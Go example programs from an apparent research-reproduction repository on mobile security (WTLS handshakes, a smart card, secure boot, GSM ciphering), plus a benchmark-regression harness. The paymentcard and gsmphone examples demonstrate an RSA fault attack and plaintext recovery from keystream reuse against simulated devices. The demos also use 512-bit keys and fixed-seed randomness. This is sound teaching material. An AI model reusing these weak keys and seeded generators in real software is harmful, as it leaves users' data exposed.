// Handset: the paper's Section 3.1 flexibility scenario — one wireless
// PDA that must interoperate across environments, negotiating a different
// cipher suite with each peer, resuming sessions, and paying a different
// security-processing bill each time.
//
//	go run ./examples/handset
package main

import (
	"fmt"
	"io"
	"log"

	mobilesec "repro"
)

type environment struct {
	name   string
	offer  []uint16 // what the handset offers here
	server []uint16 // what the peer supports
}

func main() {
	ca, err := mobilesec.NewCA("OperatorRoot", mobilesec.NewDRBG([]byte("ca")), 512)
	if err != nil {
		log.Fatal(err)
	}
	gwKey, err := mobilesec.GenerateRSAKey(mobilesec.NewDRBG([]byte("gw")), 512)
	if err != nil {
		log.Fatal(err)
	}
	cert, err := ca.Issue("gateway", 1, &gwKey.PublicKey)
	if err != nil {
		log.Fatal(err)
	}

	// The same handset roams through three environments with different
	// peer capabilities (the interoperability matrix of Section 3.1).
	envs := []environment{
		{"office-wlan (strong)", []uint16{0x002F, 0x000A, 0x0005}, mobilesec.DefaultSuites()},
		{"legacy-gateway (3DES only)", []uint16{0x002F, 0x000A, 0x0005}, []uint16{0x000A}},
		{"export-roaming (weak)", []uint16{0x0006, 0x0003}, mobilesec.DefaultSuites()},
	}

	clientCache := mobilesec.NewSessionCache()
	serverCache := mobilesec.NewSessionCache()
	cpu, err := mobilesec.ProcessorByName("StrongARM-SA1100")
	if err != nil {
		log.Fatal(err)
	}

	fmt.Printf("%-28s %-32s %8s %10s %9s\n", "environment", "negotiated suite", "resumed", "M instr", "CPU sec")
	for round := 0; round < 2; round++ { // second round exercises resumption
		for _, env := range envs {
			a, b := mobilesec.NewDuplexPipe()
			client := mobilesec.WTLSClient(a, &mobilesec.Config{
				Rand:         mobilesec.NewDRBG([]byte(env.name + "c")),
				RootCA:       &ca.Key.PublicKey,
				ServerName:   "gateway",
				Suites:       env.offer,
				SessionCache: clientCache,
			})
			server := mobilesec.WTLSServer(b, &mobilesec.Config{
				Rand:         mobilesec.NewDRBG([]byte(env.name + "s")),
				Certificate:  cert,
				PrivateKey:   gwKey,
				Suites:       env.server,
				SessionCache: serverCache,
			})
			done := make(chan error, 1)
			go func() {
				buf := make([]byte, 1024)
				n, err := server.Read(buf)
				if err != nil {
					done <- err
					return
				}
				_, err = server.Write(buf[:n])
				done <- err
			}()
			if _, err := client.Write([]byte("browse: 1 KB of WAP content please")); err != nil {
				log.Fatalf("%s: %v", env.name, err)
			}
			reply := make([]byte, 34)
			if _, err := io.ReadFull(client, reply); err != nil {
				log.Fatal(err)
			}
			if err := <-done; err != nil {
				log.Fatal(err)
			}
			st := client.State()
			m := client.Metrics()
			total := m.HandshakeInstr + m.BulkInstr
			fmt.Printf("%-28s %-32s %8v %10.1f %9.3f\n",
				env.name, st.Suite.Name, st.Resumed, total/1e6, cpu.TimeForInstr(total))
		}
	}
	fmt.Println("\nround two resumes each session: the abbreviated handshake removes the")
	fmt.Println("RSA cost that dominates the first connections (Section 3.2's latency anchor).")
}
