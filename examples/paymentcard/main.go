// Paymentcard: the smart card of the paper's Section 3.4 attack
// discussion, driven through its APDU front door — PIN-gated signing,
// the try counter, and the glitch attack against an unhardened card vs
// the hardened one.
//
//	go run ./examples/paymentcard
package main

import (
	"fmt"
	"log"

	mobilesec "repro"
	"repro/internal/attack/fault"
	"repro/internal/crypto/rsa"
	"repro/internal/crypto/sha1"
)

func main() {
	key, err := mobilesec.GenerateRSAKey(mobilesec.NewDRBG([]byte("card")), 512)
	if err != nil {
		log.Fatal(err)
	}
	mkCard := func(opts *rsa.Options) *mobilesec.SmartCard {
		c, err := mobilesec.NewSmartCard(mobilesec.SmartCardConfig{
			PIN: "4929", Key: key, RSAOpts: opts, Seed: []byte("demo"),
		})
		if err != nil {
			log.Fatal(err)
		}
		return c
	}

	// Normal operation: verify PIN, sign a transaction.
	card := mkCard(nil)
	if r := card.Process(mobilesec.APDUCommand{INS: 0x20, Data: []byte("4929")}); r.SW != 0x9000 {
		log.Fatalf("verify: %04x", r.SW)
	}
	tx := []byte("transfer 250 EUR to IBAN ...42")
	r := card.Process(mobilesec.APDUCommand{INS: 0x2A, Data: tx})
	digest := sha1.Sum(tx)
	err = rsa.VerifyPKCS1(&key.PublicKey, "sha1", digest[:], r.Data)
	fmt.Printf("signed transaction verifies: %v (SW=%04x)\n", err == nil, r.SW)

	// Wrong PINs exhaust the try counter.
	card2 := mkCard(nil)
	for _, guess := range []string{"0000", "1111", "2222"} {
		r := card2.Process(mobilesec.APDUCommand{INS: 0x20, Data: []byte(guess)})
		fmt.Printf("PIN guess %s -> SW %04x (tries left %d)\n", guess, r.SW, card2.TriesRemaining())
	}
	r = card2.Process(mobilesec.APDUCommand{INS: 0x20, Data: []byte("4929")})
	fmt.Printf("correct PIN on blocked card -> SW %04x\n", r.SW)

	// The glitch attack, through the APDU interface.
	glitched := mkCard(&rsa.Options{Fault: &rsa.Fault{FlipBit: 23}})
	glitched.Process(mobilesec.APDUCommand{INS: 0x20, Data: []byte("4929")})
	r = glitched.Process(mobilesec.APDUCommand{INS: 0x2A, Data: tx})
	if factor, err := fault.FactorFromFaultySignature(&key.PublicKey, "sha1", digest[:], r.Data); err == nil {
		fmt.Printf("glitched card: faulty signature factored the modulus (factor matches: %v)\n",
			factor.Cmp(key.P) == 0 || factor.Cmp(key.Q) == 0)
	}

	// The hardened card refuses to emit the faulty signature.
	hardened := mkCard(&rsa.Options{Fault: &rsa.Fault{FlipBit: 23}, VerifyAfterSign: true})
	hardened.Process(mobilesec.APDUCommand{INS: 0x20, Data: []byte("4929")})
	r = hardened.Process(mobilesec.APDUCommand{INS: 0x2A, Data: tx})
	fmt.Printf("hardened card under the same glitch -> SW %04x, %d data bytes (attack defeated)\n",
		r.SW, len(r.Data))
}
