// Sensornode: the paper's Section 3.3 battery case study as a live
// platform simulation — a DragonBall-class node on a 10 Kbps radio,
// running 1 KB transactions until the battery dies, with and without the
// RSA secure mode, reproducing Figure 4 from the running system.
//
//	go run ./examples/sensornode
package main

import (
	"fmt"
	"log"

	mobilesec "repro"
	"repro/internal/cost"
)

func main() {
	fmt.Println("sensor node: DragonBall MC68328 + 10 Kbps radio + 26 KJ battery")

	// Closed-form Figure 4 from the library.
	fig, err := mobilesec.ComputeBatteryFigure()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Print(fig.Render())

	// The same story through the Platform abstraction: how many secure
	// sessions one battery funds, and where the energy goes.
	cpu, err := mobilesec.ProcessorByName("DragonBall-68EC000")
	if err != nil {
		log.Fatal(err)
	}
	for _, secure := range []bool{false, true} {
		platform, err := mobilesec.NewPlatform(mobilesec.PlatformConfig{
			Name:     "node",
			Arch:     mobilesec.SoftwareOnly(cpu),
			BatteryJ: 26_000,
			Radio:    mobilesec.NewSensorRadio(),
			Seed:     []byte("sensor"),
		})
		if err != nil {
			log.Fatal(err)
		}
		images := []*mobilesec.BootImage{{Name: "node-fw", Code: []byte("sensor firmware")}}
		rom, err := mobilesec.BuildBootChain(images)
		if err != nil {
			log.Fatal(err)
		}
		if _, err := platform.SecureBoot(rom, images); err != nil {
			log.Fatal(err)
		}

		// One transaction: 1 KB out, 1 KB in; the secure mode's RSA
		// work is the paper's 42 mJ/KB, expressed in instructions for
		// the platform's CPU energy model.
		var metrics mobilesec.Metrics
		if secure {
			// 42 mJ at the DragonBall's nJ/instr rating.
			metrics.HandshakeInstr = 42e-3 / (cpu.NanoJoulePerInstr() * 1e-9)
		}
		rep, err := platform.AccountSession(metrics, 1024, 1024)
		if err != nil {
			log.Fatal(err)
		}
		mode := "plain "
		if secure {
			mode = "secure"
		}
		fmt.Printf("\n%s transaction: %.1f mJ total (%.1f mJ crypto + %.1f mJ radio), %.2f s\n",
			mode, rep.TotalEnergyJ*1e3, rep.CPUEnergyJ*1e3, rep.RadioEnergyJ*1e3, rep.TotalTimeSec)
		fmt.Printf("       transactions per battery: %d\n", platform.SessionsUntilFlat(rep))
	}

	fmt.Printf("\npaper anchors: tx %.1f + rx %.1f mJ/KB, +%.1f mJ/KB RSA, battery %.0f J\n",
		cost.TxMilliJoulePerKB, cost.RxMilliJoulePerKB,
		cost.RSASecureModeExtraMilliJoulePerKB, cost.SensorBatteryJoules)
}
