// Securewallet: the secure-execution-environment story of Sections 3.4
// and 4.1 — a phone's trusted wallet application behind secure boot, a
// sealed key store with anti-rollback, a trusted-world gate over secure
// RAM, and DRM-protected content.
//
//	go run ./examples/securewallet
package main

import (
	"fmt"
	"log"

	mobilesec "repro"
	"repro/internal/see"
)

func main() {
	// --- secure boot -------------------------------------------------
	images := []*mobilesec.BootImage{
		{Name: "rom-loader", Code: []byte("mask ROM loader")},
		{Name: "os", Code: []byte("phone OS image")},
		{Name: "wallet", Code: []byte("trusted wallet applet")},
	}
	rom, err := mobilesec.BuildBootChain(images)
	if err != nil {
		log.Fatal(err)
	}
	rep, err := see.Boot(rom, images)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("secure boot: verified %v\n", rep.Stages)

	// A trojaned OS image is refused at the right stage.
	evil := []*mobilesec.BootImage{images[0], {Name: "os", Code: []byte("trojaned OS image"), NextHash: images[1].NextHash}, images[2]}
	if _, err := see.Boot(rom, evil); err != nil {
		fmt.Printf("trojaned image rejected: %v\n", err)
	}

	// --- sealed key storage -------------------------------------------
	hwKey := []byte("fused-device-secret-0x42")
	ks, err := mobilesec.NewKeyStore(hwKey, mobilesec.NewDRBG([]byte("ks")))
	if err != nil {
		log.Fatal(err)
	}
	ks.Put("bank-pin", []byte("4929"))
	ks.Put("client-cert-key", []byte("...private key bytes..."))
	blob, err := ks.Seal()
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("key store sealed to flash: %d bytes, version %d\n", len(blob), ks.Version())

	// A stolen flash image is useless on another device.
	thief, err := mobilesec.NewKeyStore([]byte("attacker-device-secret!!"), mobilesec.NewDRBG(nil))
	if err != nil {
		log.Fatal(err)
	}
	if err := thief.Unseal(blob); err != nil {
		fmt.Printf("stolen flash image on another device: %v\n", err)
	}

	// Rolling back to an older (pre PIN-change) image is caught.
	ks.Put("bank-pin", []byte("7777"))
	if _, err := ks.Seal(); err != nil {
		log.Fatal(err)
	}
	if err := ks.Unseal(blob); err != nil {
		fmt.Printf("rollback to old PIN blocked: %v\n", err)
	}

	// --- trusted world over secure RAM ---------------------------------
	mem, err := mobilesec.StandardMemoryLayout()
	if err != nil {
		log.Fatal(err)
	}
	gate := see.NewGate()
	gate.RegisterEntry(0x100, "wallet-sign")
	if err := func() error {
		if _, err := gate.EnterTrusted(0x100); err != nil {
			return err
		}
		defer gate.ExitTrusted()
		return mem.WriteAt(see.Trusted, 0x1000_0000, []byte("session key"))
	}(); err != nil {
		log.Fatal(err)
	}
	// Malware in the normal world tries to read it.
	if _, err := mem.ReadAt(see.Untrusted, 0x1000_0000, 11); err != nil {
		fmt.Printf("malware read of secure RAM denied: %v\n", err)
	}
	fmt.Printf("recorded %d access violation(s) for the tamper-response policy\n", len(mem.Violations()))

	// --- DRM ------------------------------------------------------------
	agent, err := mobilesec.NewDRMAgent(append(hwKey, hwKey...)[:16], mobilesec.NewDRBG([]byte("drm")))
	if err != nil {
		log.Fatal(err)
	}
	if err := agent.Package("ringtone-7", []byte("PCM bytes of a 2003 polyphonic hit"),
		mobilesec.Rights{PlayCount: 2, AllowCopy: false}); err != nil {
		log.Fatal(err)
	}
	for i := 1; i <= 3; i++ {
		if _, err := agent.Play("ringtone-7"); err != nil {
			fmt.Printf("play %d: %v\n", i, err)
		} else {
			left, _ := agent.RemainingPlays("ringtone-7")
			fmt.Printf("play %d: ok (%d plays left)\n", i, left)
		}
	}
	if _, _, err := agent.ExportLicense("ringtone-7"); err != nil {
		fmt.Printf("copy to another device: %v\n", err)
	}
}
