// Gsmphone: the paper's Section 2 bearer-security rung and why it is not
// enough — a phone authenticates to the network with its SIM, ciphers
// voice frames with A5/1, and then the known bearer weaknesses (64-bit
// Kc, keystream reuse on counter reset) motivate running WTLS on top for
// anything that matters.
//
//	go run ./examples/gsmphone
package main

import (
	"bytes"
	"fmt"
	"log"

	mobilesec "repro"
)

func main() {
	// --- network access domain security (GSM-style) -------------------
	ki := []byte("subscriber-Ki-16")
	sim, err := mobilesec.NewSIM("001-01-5550100", ki)
	if err != nil {
		log.Fatal(err)
	}
	auc := mobilesec.NewAuthCenter(mobilesec.NewDRBG([]byte("auc")))
	if err := auc.Provision("001-01-5550100", ki); err != nil {
		log.Fatal(err)
	}

	rand, err := auc.Challenge("001-01-5550100")
	if err != nil {
		log.Fatal(err)
	}
	sres, kcPhone := sim.Respond(rand)
	kcNetwork, err := auc.Verify("001-01-5550100", rand, sres)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("SIM authenticated; phone and network agree on Kc: %v\n", kcPhone == kcNetwork)

	// A cloned SIM with the wrong Ki fails a fresh challenge.
	clone, _ := mobilesec.NewSIM("001-01-5550100", []byte("wrong-Ki-guess!!"))
	rand2, _ := auc.Challenge("001-01-5550100")
	badSRES, _ := clone.Respond(rand2)
	if _, err := auc.Verify("001-01-5550100", rand2, badSRES); err != nil {
		fmt.Printf("cloned SIM rejected: %v\n", err)
	}

	// --- air-interface ciphering ---------------------------------------
	phone := mobilesec.NewBearerChannel(kcPhone)
	tower := mobilesec.NewBearerChannel(kcNetwork)
	voice := []byte("GSM voice burst")
	frame, sealed, err := phone.SealFrame(voice)
	if err != nil {
		log.Fatal(err)
	}
	got, err := tower.OpenFrame(frame, sealed)
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("A5/1-ciphered frame %d roundtrips: %v\n", frame, bytes.Equal(got, voice))

	// --- why the paper layers WTLS on top -------------------------------
	// Counter reset (as across GSM hyperframes) reuses keystream:
	a := mobilesec.NewBearerChannel(kcPhone)
	b := mobilesec.NewBearerChannel(kcPhone)
	_, c1, _ := a.SealFrame([]byte("PIN=4929......")) // 14 bytes, one burst
	_, c2, _ := b.SealFrame([]byte(".............."))
	xor := make([]byte, len(c1))
	for i := range c1 {
		xor[i] = c1[i] ^ c2[i] ^ '.'
	}
	fmt.Printf("keystream reuse after counter reset leaks plaintext: %q\n", xor)
	fmt.Println("→ bearer security alone is 'network access domain security';")
	fmt.Println("  end-to-end privacy needs the WTLS layer (see examples/quickstart).")
}
