// Quickstart: bring up a secure session between a mobile appliance and a
// gateway with the public mobilesec API, then read the security-
// processing bill.
//
//	go run ./examples/quickstart
package main

import (
	"fmt"
	"io"
	"log"

	mobilesec "repro"
)

func main() {
	// 1. A certificate authority and a gateway identity.
	ca, err := mobilesec.NewCA("QuickstartRoot", mobilesec.NewDRBG([]byte("ca-seed")), 512)
	if err != nil {
		log.Fatal(err)
	}
	gatewayKey, err := mobilesec.GenerateRSAKey(mobilesec.NewDRBG([]byte("gateway-seed")), 512)
	if err != nil {
		log.Fatal(err)
	}
	cert, err := ca.Issue("gateway.example", 1, &gatewayKey.PublicKey)
	if err != nil {
		log.Fatal(err)
	}

	// 2. A simulated radio link and the two WTLS endpoints.
	handsetLink, gatewayLink := mobilesec.NewDuplexPipe()
	client := mobilesec.WTLSClient(handsetLink, &mobilesec.Config{
		Rand:       mobilesec.NewDRBG([]byte("handset")),
		RootCA:     &ca.Key.PublicKey,
		ServerName: "gateway.example",
	})
	server := mobilesec.WTLSServer(gatewayLink, &mobilesec.Config{
		Rand:        mobilesec.NewDRBG([]byte("gateway")),
		Certificate: cert,
		PrivateKey:  gatewayKey,
	})

	// 3. The gateway echoes one request.
	go func() {
		buf := make([]byte, 256)
		n, err := server.Read(buf) // Read drives the handshake implicitly
		if err != nil {
			log.Fatal(err)
		}
		if _, err := server.Write(buf[:n]); err != nil {
			log.Fatal(err)
		}
	}()

	// 4. The handset speaks.
	request := []byte("GET /balance HTTP/1.0\r\n\r\n")
	if _, err := client.Write(request); err != nil {
		log.Fatal(err)
	}
	reply := make([]byte, len(request))
	if _, err := io.ReadFull(client, reply); err != nil {
		log.Fatal(err)
	}

	st := client.State()
	m := client.Metrics()
	fmt.Printf("negotiated suite : %s\n", st.Suite.Name)
	fmt.Printf("echoed reply     : %q\n", reply)
	fmt.Printf("handshake cost   : %.1f M instructions (cost model)\n", m.HandshakeInstr/1e6)
	fmt.Printf("bulk cost        : %.1f K instructions for %d app bytes\n",
		m.BulkInstr/1e3, m.AppBytesOut+m.AppBytesIn)

	// 5. What that costs a cell-phone CPU (the paper's Section 3.2 math).
	cpu, err := mobilesec.ProcessorByName("ARM7-cell-phone")
	if err != nil {
		log.Fatal(err)
	}
	fmt.Printf("on a %s this session takes %.2f s of CPU time\n",
		cpu.Name, cpu.TimeForInstr(m.HandshakeInstr+m.BulkInstr))
}
