// Command benchreg is the bench-regression harness: it runs the
// repository's Benchmark* suite under `go test -bench`, records ns/op,
// B/op and allocs/op per benchmark into a dated JSON snapshot, and —
// given a baseline snapshot — fails when any benchmark's ns/op regresses
// past a configurable threshold. CI runs it against the committed
// baseline; developers refresh the baseline with -out after intentional
// performance changes.
package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"flag"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"sort"
	"strconv"
	"strings"
	"time"

	"repro/internal/obs/history"
	"repro/internal/obs/journal"
)

// Result is one benchmark's recorded costs. Extra holds custom
// b.ReportMetric units (e.g. the aggregate benchmark's records/s) keyed
// by their unit string.
type Result struct {
	NsPerOp     float64            `json:"ns_per_op"`
	BytesPerOp  float64            `json:"bytes_per_op,omitempty"`
	AllocsPerOp float64            `json:"allocs_per_op,omitempty"`
	MBPerSec    float64            `json:"mb_per_sec,omitempty"`
	Extra       map[string]float64 `json:"extra,omitempty"`
	Iterations  int64              `json:"iterations"`
}

// Snapshot is the JSON file layout. Commit and Fingerprint tie the
// numbers back to the code and configuration that produced them, so a
// snapshot (or the bench/history.jsonl entry derived from it) is
// traceable long after the working tree moves on.
type Snapshot struct {
	Date        string `json:"date"`
	GoVersion   string `json:"go_version"`
	GOOS        string `json:"goos"`
	GOARCH      string `json:"goarch"`
	BenchTime   string `json:"benchtime"`
	Commit      string `json:"commit"`
	Fingerprint string `json:"config_fingerprint"`
	// SLOFired counts the slo_fired events in the run journal given via
	// -journal (0 when none was given), so a snapshot records not just
	// how fast the run was but whether it stayed inside its budgets.
	SLOFired int               `json:"slo_fired"`
	Results  map[string]Result `json:"results"`
}

func main() {
	benchRe := flag.String("bench", ".", "benchmark regexp passed to go test -bench")
	benchtime := flag.String("benchtime", "1s", "per-benchmark budget passed to go test -benchtime")
	pkg := flag.String("pkg", "./...", "package pattern to benchmark")
	out := flag.String("out", "", "write the snapshot JSON here (default bench/BENCH_<date>.json; '-' for stdout only)")
	baseline := flag.String("baseline", "", "baseline snapshot to compare against (empty: record only)")
	threshold := flag.Float64("threshold", 0.30, "fail when ns/op grows more than this fraction over baseline")
	count := flag.Int("count", 1, "go test -count, for noise averaging")
	historyPath := flag.String("history", "bench/history.jsonl", "append a run record to this JSONL history ('' to skip)")
	journalPath := flag.String("journal", "", "run journal JSONL whose fired-SLO count the snapshot records")
	flag.Parse()

	snap, raw, err := run(*benchRe, *benchtime, *pkg, *count)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchreg: %v\n%s", err, raw)
		os.Exit(1)
	}
	if len(snap.Results) == 0 {
		fmt.Fprintf(os.Stderr, "benchreg: no benchmarks matched %q\n", *benchRe)
		os.Exit(1)
	}
	if *journalPath != "" {
		n, err := countSLOFired(*journalPath)
		if err != nil {
			fmt.Fprintf(os.Stderr, "benchreg: %v\n", err)
			os.Exit(1)
		}
		snap.SLOFired = n
	}

	path := *out
	if path == "" {
		path = fmt.Sprintf("bench/BENCH_%s.json", snap.Date)
	}
	if path != "-" {
		if dir := filepath.Dir(path); dir != "." {
			if err := os.MkdirAll(dir, 0o755); err != nil {
				fmt.Fprintf(os.Stderr, "benchreg: %v\n", err)
				os.Exit(1)
			}
		}
		blob, _ := json.MarshalIndent(snap, "", "  ")
		if err := os.WriteFile(path, append(blob, '\n'), 0o644); err != nil {
			fmt.Fprintf(os.Stderr, "benchreg: %v\n", err)
			os.Exit(1)
		}
		fmt.Printf("recorded %d benchmarks -> %s\n", len(snap.Results), path)
	}
	if *historyPath != "" {
		if err := history.Append(*historyPath, historyRecord(snap)); err != nil {
			fmt.Fprintf(os.Stderr, "benchreg: history: %v\n", err)
			os.Exit(1)
		}
	}

	if *baseline == "" {
		printSnapshot(snap)
		return
	}
	base, err := load(*baseline)
	if err != nil {
		fmt.Fprintf(os.Stderr, "benchreg: baseline: %v\n", err)
		os.Exit(1)
	}
	if failed := compare(base, snap, *threshold); failed {
		os.Exit(1)
	}
}

// run executes the benchmark suite and parses its output.
func run(benchRe, benchtime, pkg string, count int) (*Snapshot, string, error) {
	args := []string{"test", "-run", "^$", "-bench", benchRe,
		"-benchtime", benchtime, "-benchmem", "-count", strconv.Itoa(count), pkg}
	cmd := exec.Command("go", args...)
	var buf bytes.Buffer
	cmd.Stdout = &buf
	cmd.Stderr = &buf
	runErr := cmd.Run()
	snap := &Snapshot{
		Date:        time.Now().UTC().Format("2006-01-02"),
		GoVersion:   runtime.Version(),
		GOOS:        runtime.GOOS,
		GOARCH:      runtime.GOARCH,
		BenchTime:   benchtime,
		Commit:      history.Commit(),
		Fingerprint: history.Fingerprint(benchRe, benchtime, pkg, strconv.Itoa(count), runtime.GOOS, runtime.GOARCH),
		Results:     map[string]Result{},
	}
	sc := bufio.NewScanner(&buf)
	sc.Buffer(make([]byte, 1024*1024), 1024*1024)
	for sc.Scan() {
		if name, r, ok := parseLine(sc.Text()); ok {
			// -count > 1 repeats lines; keep the fastest (least noisy) run.
			if prev, dup := snap.Results[name]; !dup || r.NsPerOp < prev.NsPerOp {
				snap.Results[name] = r
			}
		}
	}
	if runErr != nil {
		return nil, buf.String(), fmt.Errorf("go test -bench: %w", runErr)
	}
	return snap, buf.String(), nil
}

// parseLine parses a `go test -bench` result line such as
//
//	BenchmarkFoo/bar-8   1000   1234 ns/op   9.0 MB/s   12 B/op   3 allocs/op
func parseLine(line string) (string, Result, bool) {
	fields := strings.Fields(line)
	if len(fields) < 4 || !strings.HasPrefix(fields[0], "Benchmark") {
		return "", Result{}, false
	}
	name := fields[0]
	if i := strings.LastIndex(name, "-"); i > 0 {
		if _, err := strconv.Atoi(name[i+1:]); err == nil {
			name = name[:i] // strip the -GOMAXPROCS suffix
		}
	}
	iters, err := strconv.ParseInt(fields[1], 10, 64)
	if err != nil {
		return "", Result{}, false
	}
	r := Result{Iterations: iters}
	seen := false
	for i := 2; i+1 < len(fields); i += 2 {
		v, err := strconv.ParseFloat(fields[i], 64)
		if err != nil {
			continue
		}
		switch fields[i+1] {
		case "ns/op":
			r.NsPerOp = v
			seen = true
		case "B/op":
			r.BytesPerOp = v
		case "allocs/op":
			r.AllocsPerOp = v
		case "MB/s":
			r.MBPerSec = v
		default:
			if r.Extra == nil {
				r.Extra = map[string]float64{}
			}
			r.Extra[fields[i+1]] = v
		}
	}
	return name, r, seen
}

// countSLOFired counts the slo_fired events in a run journal.
func countSLOFired(path string) (int, error) {
	events, _, err := journal.LoadFile(path)
	if err != nil {
		return 0, err
	}
	n := 0
	for _, e := range events {
		if e.Layer == "slo" && e.Name == "slo_fired" {
			n++
		}
	}
	return n, nil
}

// historyRecord condenses a snapshot for the cross-run record book:
// per-benchmark ns/op as headline figures, keyed without the
// "Benchmark" prefix, plus the fired-SLO count.
func historyRecord(s *Snapshot) history.Record {
	head := make(map[string]float64, len(s.Results)+1)
	for name, r := range s.Results {
		head[strings.TrimPrefix(name, "Benchmark")+"_ns_per_op"] = r.NsPerOp
	}
	head["slo_fired"] = float64(s.SLOFired)
	return history.Record{
		Date:        s.Date,
		Source:      "benchreg",
		Commit:      s.Commit,
		GoVersion:   s.GoVersion,
		Fingerprint: s.Fingerprint,
		Headline:    head,
	}
}

func load(path string) (*Snapshot, error) {
	blob, err := os.ReadFile(path)
	if err != nil {
		return nil, err
	}
	var s Snapshot
	if err := json.Unmarshal(blob, &s); err != nil {
		return nil, err
	}
	return &s, nil
}

func printSnapshot(s *Snapshot) {
	names := make([]string, 0, len(s.Results))
	for n := range s.Results {
		names = append(names, n)
	}
	sort.Strings(names)
	for _, n := range names {
		r := s.Results[n]
		fmt.Printf("  %-50s %14.1f ns/op %10.0f B/op %8.0f allocs/op\n",
			n, r.NsPerOp, r.BytesPerOp, r.AllocsPerOp)
	}
}

// regression is one over-threshold (or missing) benchmark for the
// failure table. unit names the gated metric (ns/op, allocs/op, MB/s,
// records/s, ...).
type regression struct {
	name     string
	unit     string
	baseNs   float64
	curNs    float64
	delta    float64 // fraction over baseline; NaN-free, missing uses +Inf
	missing  bool
	baseDate string
}

// compare reports each benchmark's delta against the baseline and returns
// true when any ns/op regression exceeds the threshold. On failure it
// prints a dedicated regression table (worst first) so CI logs name the
// offenders without scrolling the full comparison.
func compare(base, cur *Snapshot, threshold float64) bool {
	names := make([]string, 0, len(base.Results))
	for n := range base.Results {
		names = append(names, n)
	}
	sort.Strings(names)
	var regs []regression
	fmt.Printf("comparison vs baseline (%s, fail over +%.0f%%):\n", base.Date, threshold*100)
	for _, n := range names {
		b := base.Results[n]
		c, ok := cur.Results[n]
		if !ok {
			fmt.Printf("  %-50s MISSING from current run\n", n)
			regs = append(regs, regression{name: n, baseNs: b.NsPerOp, missing: true, baseDate: base.Date})
			continue
		}
		if b.NsPerOp <= 0 {
			continue
		}
		delta := (c.NsPerOp - b.NsPerOp) / b.NsPerOp
		verdict := "ok"
		if delta > threshold {
			verdict = "REGRESSION"
			regs = append(regs, regression{name: n, unit: "ns/op", baseNs: b.NsPerOp, curNs: c.NsPerOp, delta: delta, baseDate: base.Date})
		}
		fmt.Printf("  %-50s %14.1f -> %14.1f ns/op  %+6.1f%%  %s\n",
			n, b.NsPerOp, c.NsPerOp, delta*100, verdict)
		// allocs/op gates at zero tolerance: a benchmark that allocated
		// more than its baseline — in particular the record path's pinned
		// 0 allocs/op — fails regardless of how small the increase is.
		if c.AllocsPerOp > b.AllocsPerOp {
			fmt.Printf("  %-50s %14.0f -> %14.0f allocs/op  REGRESSION (zero tolerance)\n",
				n, b.AllocsPerOp, c.AllocsPerOp)
			regs = append(regs, regression{name: n, unit: "allocs/op", baseNs: b.AllocsPerOp,
				curNs: c.AllocsPerOp, delta: c.AllocsPerOp - b.AllocsPerOp, baseDate: base.Date})
		}
		// Throughput metrics (MB/s and custom rates such as records/s)
		// gate as drops at the same threshold.
		if b.MBPerSec > 0 && c.MBPerSec < b.MBPerSec*(1-threshold) {
			drop := (b.MBPerSec - c.MBPerSec) / b.MBPerSec
			fmt.Printf("  %-50s %14.2f -> %14.2f MB/s  %+6.1f%%  REGRESSION\n",
				n, b.MBPerSec, c.MBPerSec, -drop*100)
			regs = append(regs, regression{name: n, unit: "MB/s", baseNs: b.MBPerSec,
				curNs: c.MBPerSec, delta: drop, baseDate: base.Date})
		}
		for unit, bv := range b.Extra {
			if !strings.HasSuffix(unit, "/s") || bv <= 0 {
				continue
			}
			cv := c.Extra[unit]
			if cv < bv*(1-threshold) {
				drop := (bv - cv) / bv
				fmt.Printf("  %-50s %14.1f -> %14.1f %s  %+6.1f%%  REGRESSION\n",
					n, bv, cv, unit, -drop*100)
				regs = append(regs, regression{name: n, unit: unit, baseNs: bv,
					curNs: cv, delta: drop, baseDate: base.Date})
			}
		}
	}
	extra := 0
	for n := range cur.Results {
		if _, ok := base.Results[n]; !ok {
			extra++
		}
	}
	if extra > 0 {
		fmt.Printf("  (%d benchmarks not in baseline; record a new baseline to track them)\n", extra)
	}
	// The SLO budget is part of the regression contract: a run that fires
	// more rules than its baseline regressed even if every ns/op held.
	if cur.SLOFired > base.SLOFired {
		fmt.Printf("  %-50s %14d -> %14d fired  REGRESSION\n", "SLO rules", base.SLOFired, cur.SLOFired)
		regs = append(regs, regression{name: "SLO rules fired", unit: "fired", baseNs: float64(base.SLOFired),
			curNs: float64(cur.SLOFired), delta: float64(cur.SLOFired - base.SLOFired), baseDate: base.Date})
	} else if base.SLOFired > 0 || cur.SLOFired > 0 {
		fmt.Printf("  %-50s %14d -> %14d fired  ok\n", "SLO rules", base.SLOFired, cur.SLOFired)
	}
	if len(regs) == 0 {
		fmt.Println("benchreg: PASS")
		return false
	}
	printRegressionTable(regs, threshold)
	return true
}

// printRegressionTable summarizes only the failing benchmarks, sorted by
// how far past the threshold each one landed.
func printRegressionTable(regs []regression, threshold float64) {
	sort.Slice(regs, func(i, j int) bool {
		// Missing benchmarks sort first — they are the hardest failures.
		if regs[i].missing != regs[j].missing {
			return regs[i].missing
		}
		return regs[i].delta > regs[j].delta
	})
	fmt.Printf("\nbenchreg: FAIL — %d metric(s) regressed past their gate (baseline %s, ns/op gate +%.0f%%):\n",
		len(regs), regs[0].baseDate, threshold*100)
	fmt.Printf("  %-50s %12s %14s %14s %9s\n", "benchmark", "metric", "baseline", "current", "delta")
	for _, r := range regs {
		if r.missing {
			fmt.Printf("  %-50s %12s %14.1f %14s %9s\n", r.name, "ns/op", r.baseNs, "MISSING", "-")
			continue
		}
		fmt.Printf("  %-50s %12s %14.1f %14.1f %+8.1f%%\n", r.name, r.unit, r.baseNs, r.curNs, r.delta*100)
	}
	fmt.Println("  refresh with: go run ./cmd/benchreg -out bench/BENCH_baseline.json (after justifying the slowdown)")
}
