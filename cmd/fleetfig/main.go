// Command fleetfig runs the fleet-scale discrete-event simulator and
// emits the fleet battery-gap and congestion/epidemic figures: the
// paper's single-device energy arguments replayed across populations of
// 10^5–10^6 devices. Output is a pure function of the scenario —
// byte-identical at any -shards and -workers setting — which CI
// enforces by diffing runs.
package main

import (
	"flag"
	"fmt"
	"os"

	"repro/internal/fleet"
	"repro/internal/obs"
)

func main() {
